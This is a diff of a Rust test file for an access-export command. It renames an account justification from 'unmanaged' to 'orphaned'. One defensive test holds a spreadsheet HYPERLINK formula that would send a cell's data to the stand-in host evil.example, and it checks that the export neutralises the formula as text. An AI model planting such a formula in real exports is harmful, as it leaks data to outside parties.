@@ -1,5 +1,5 @@
 //! `seatwarden export access`: from the demo's stored state, every account with the
-//! identity and mapping behind it, or "unmanaged".
+//! identity and mapping behind it, or why none (`orphaned`, `disputed`, `protected`).
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
 use std::process::Command;
@@ -36,7 +36,7 @@ async fn access_export_justifies_every_account() {
             .unwrap_or_else(|| panic!("{user} not exported"))
     };
     let handmade = row("freelancer.max@gmail.com");
-    assert_eq!(handmade.justification, "unmanaged");
+    assert_eq!(handmade.justification, "orphaned");
     assert_eq!(handmade.identity_id, None);
     let leaver = row("olivia.haddad@example.com");
     assert!(!leaver.active, "deactivated by the demo's reconcile");
@@ -163,7 +163,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
             identity_id: None,
             identity_user_name: None,
             identity_status: None,
-            justification: "unmanaged".into(),
+            justification: "orphaned".into(),
             last_change: None,
         }],
     };
@@ -176,7 +176,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
         &row[4],
         "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\");Finance"
     );
-    assert_eq!(&row[8], "unmanaged");
+    assert_eq!(&row[8], "orphaned");
     assert!(export.to_json().contains("\"user_name\": \"@evil\""));
 }
 
